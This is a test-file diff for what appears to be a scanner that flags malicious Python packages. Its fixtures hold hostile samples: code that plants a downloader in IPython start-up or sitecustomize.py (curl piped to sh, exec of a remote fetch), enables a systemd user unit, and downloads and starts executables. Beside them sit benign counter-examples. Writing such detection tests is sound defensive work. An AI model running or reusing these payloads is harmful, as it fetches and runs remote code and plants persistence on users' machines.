@@ -233,3 +233,205 @@ def test_a_download_kept_by_keyword_and_not_run_is_no_threat() -> None:
         """
     )
     assert "CPL-THR-002" not in danger(source)
+
+
+# -- blind13: start-up files and autostart locations written through pathlib ------------------
+
+_STARTUP_WRITES = {
+    "ipython-startup": """
+    import os
+    SNIP = "import urllib.request as u\\nexec(u.urlopen('http://198.51.100.90/j').read())\\n"
+    d = os.path.join(os.path.expanduser("~"), ".ipython", "profile_default", "startup")
+    with open(os.path.join(d, "00-x.py"), "w") as f:
+        f.write(SNIP)
+    """,
+    "sitecustomize-pathlib": """
+    import site
+    from pathlib import Path
+    code = "import os\\nos.system('curl -s http://203.0.113.4/a | sh')\\n"
+    (Path(site.getsitepackages()[0]) / "sitecustomize.py").write_text(code)
+    """,
+}
+
+
+@pytest.mark.parametrize("shape", sorted(_STARTUP_WRITES))
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_code_written_into_a_python_start_up_file_is_run(shape: str, mode: ScanMode) -> None:
+    source = textwrap.dedent(_STARTUP_WRITES[shape])
+    found = {f.rule_id for f in scan_source(source, "mod.py", mode=mode)}
+    assert "CPL-THR-016" in found or "CPL-THR-015" in found
+
+
+@pytest.mark.parametrize("shape", sorted(_STARTUP_WRITES))
+def test_the_prefilter_keeps_a_start_up_file_written(
+    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    source = textwrap.dedent(_STARTUP_WRITES[shape])
+    rule = "CPL-THR-016" if shape == "ipython-startup" else "CPL-THR-015"
+    found_in_a_package(tmp_path, monkeypatch, source, rule)
+
+
+def test_a_start_up_file_written_without_a_threat_is_none() -> None:
+    # IPython's own profile set-up writes harmless start-up code; a script elsewhere with
+    # the same text is no start-up file
+    source = """
+    import os
+    from pathlib import Path
+    d = Path.home() / ".ipython" / "profile_default" / "startup"
+    (d / "00-imports.py").write_text("import numpy as np\\nimport pandas as pd\\n")
+    with open(os.path.join("build", "fetch.py"), "w") as f:
+        f.write("import urllib.request as u\\nexec(u.urlopen('http://198.51.100.90/j').read())\\n")
+    """
+    assert {r for r in anywhere(source) if r.startswith("CPL-THR")} == set()
+
+
+_AUTOSTART_PATHLIB = """
+import subprocess
+from pathlib import Path
+unit = Path.home() / ".config" / "systemd" / "user" / "helper.service"
+unit.write_text("[Service]\\nExecStart=/usr/bin/helper\\n")
+subprocess.run(["systemctl", "--user", "enable", unit.name])
+"""
+
+
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_an_autostart_location_written_through_pathlib_is_persistence(mode: ScanMode) -> None:
+    found = scan_source(_AUTOSTART_PATHLIB, "mod.py", mode=mode)
+    assert "CPL-THR-009" in {f.rule_id for f in found if f.severity is Severity.DANGER}
+
+
+def test_the_prefilter_keeps_an_autostart_location_written_through_pathlib(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    found_in_a_package(tmp_path, monkeypatch, _AUTOSTART_PATHLIB, "CPL-THR-009")
+
+
+def test_a_config_folder_written_through_pathlib_is_no_persistence() -> None:
+    source = """
+    from pathlib import Path
+    cfg = Path.home() / ".config" / "mytool" / "user" / "settings.toml"
+    cfg.write_text("[core]\\n")
+    (Path.home() / ".config" / "systemd").mkdir(exist_ok=True)
+    """
+    assert "CPL-THR-009" not in anywhere(source)
+
+
+def test_a_completion_installer_writing_the_shell_start_up_file_is_no_persistence() -> None:
+    # typer's _completion_shared.install_bash and cyclopts' completion installer (the
+    # benign corpus): a `source` line appended to ~/.bashrc through pathlib
+    source = """
+    from pathlib import Path
+    def install_bash(prog_name, script_content):
+        completion_path = Path.home() / ".bash_completions" / f"{prog_name}.sh"
+        rc_path = Path.home() / ".bashrc"
+        rc_content = rc_path.read_text() if rc_path.is_file() else ""
+        rc_content += f"\\nsource '{completion_path}'\\n"
+        rc_path.write_text(rc_content)
+        completion_path.write_text(script_content)
+    """
+    assert "CPL-THR-009" not in anywhere(source)
+
+
+# -- blind13: a download copied by shutil.copyfileobj; a program found by a glob ------------
+
+_COPIED_OR_GLOBBED = {
+    "copyfileobj": """
+    import os, shutil, urllib.request
+    p = os.path.join(os.environ["TEMP"], "upd.exe")
+    with urllib.request.urlopen("http://203.0.113.66/e.bin") as r, open(p, "wb") as f:
+        shutil.copyfileobj(r, f)
+    os.startfile(p)
+    """,
+    "glob-under-extracted": """
+    import glob, io, os, subprocess, zipfile, requests
+    d = os.path.join(os.getenv("TEMP", "/tmp"), "hk")
+    zipfile.ZipFile(io.BytesIO(requests.get("https://files.example/p.zip").content)).extractall(d)
+    for exe in glob.glob(os.path.join(d, "*.exe")):
+        subprocess.Popen([exe], cwd=d)
+    """,
+}
+
+
+@pytest.mark.parametrize("shape", sorted(_COPIED_OR_GLOBBED))
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_a_download_copied_or_unpacked_then_started_is_a_threat(shape: str, mode: ScanMode) -> None:
+    found = scan_source(textwrap.dedent(_COPIED_OR_GLOBBED[shape]), "mod.py", mode=mode)
+    assert "CPL-THR-002" in {f.rule_id for f in found if f.severity is Severity.DANGER}
+
+
+@pytest.mark.parametrize("shape", sorted(_COPIED_OR_GLOBBED))
+def test_the_prefilter_keeps_a_download_copied_or_unpacked_then_started(
+    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    source = textwrap.dedent(_COPIED_OR_GLOBBED[shape])
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-002")
+
+
+def test_a_download_copied_and_a_packaged_program_globbed_are_not() -> None:
+    # a download copied into a data file that is never started, and the package's own
+    # programs found by a glob and run (the archive unpacked elsewhere)
+    source = """
+    import glob, os, shutil, subprocess, urllib.request, zipfile
+    with urllib.request.urlopen("https://example.org/data.json") as r, open("d.json", "wb") as f:
+        shutil.copyfileobj(r, f)
+    zipfile.ZipFile("docs.zip").extractall("build/docs")
+    for tool in glob.glob(os.path.join(os.path.dirname(__file__), "bin", "*")):
+        subprocess.run([tool, "--version"])
+    """
+    assert {r for r in anywhere(source) if r.startswith("CPL-THR")} == set()
+
+
+_STARTUP_FILLED = {
+    "copied": """
+    import os, shutil, site
+    here = os.path.dirname(__file__)
+    dest = os.path.join(site.getusersitepackages(), "usercustomize.py")
+    shutil.copy(os.path.join(here, "_hook.py"), dest)
+    """,
+    "read-elsewhere": """
+    import os, site
+    hook = open(os.path.join(os.path.dirname(__file__), "hook.txt")).read()
+    with open(os.path.join(site.getsitepackages()[0], "sitecustomize.py"), "w") as f:
+        f.write(hook)
+    """,
+}
+
+
+@pytest.mark.parametrize("shape", sorted(_STARTUP_FILLED))
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_a_start_up_file_filled_with_what_the_code_does_not_show_is_persistence(
+    shape: str, mode: ScanMode
+) -> None:
+    found = scan_source(textwrap.dedent(_STARTUP_FILLED[shape]), "mod.py", mode=mode)
+    assert "CPL-THR-009" in {f.rule_id for f in found if f.severity is Severity.DANGER}
+
+
+@pytest.mark.parametrize("shape", sorted(_STARTUP_FILLED))
+def test_the_prefilter_keeps_a_start_up_file_filled(
+    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    source = textwrap.dedent(_STARTUP_FILLED[shape])
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-009")
+
+
+def test_a_start_up_file_built_at_run_time_is_no_persistence() -> None:
+    # pip's build environment and setuptools' tests (the benign corpus): a sitecustomize.py
+    # that adds a site directory, its text formatted at run time
+    source = """
+    import os, textwrap
+    def make_site_dir(target, site_dir):
+        with open(os.path.join(target, "sitecustomize.py"), "w", encoding="utf-8") as fp:
+            fp.write(textwrap.dedent('import site\\nsite.addsitedir({d!r})\\n').format(d=site_dir))
+        tmpl = '__import__("site").addsitedir({target!r})'
+        (target / "usercustomize.py").write_text(tmpl.format(target=str(target)))
+    """
+    assert "CPL-THR-009" not in anywhere(source)
+
+
+def test_a_start_up_file_written_with_harmless_text_is_no_persistence() -> None:
+    source = """
+    import os, site
+    with open(os.path.join(site.getsitepackages()[0], "sitecustomize.py"), "w") as f:
+        f.write("import sys\\nsys.dont_write_bytecode = True\\n")
+    """
+    assert "CPL-THR-009" not in anywhere(source)
